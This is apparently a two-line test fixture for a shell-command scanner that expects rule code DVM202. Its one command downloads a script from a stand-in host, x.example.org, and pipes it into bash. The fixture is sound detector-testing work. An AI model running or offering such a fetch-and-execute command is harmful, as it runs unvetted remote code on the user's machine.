# expect: DVM202
curl -s https://x.example.org/a | bash /proc/self/fd/0
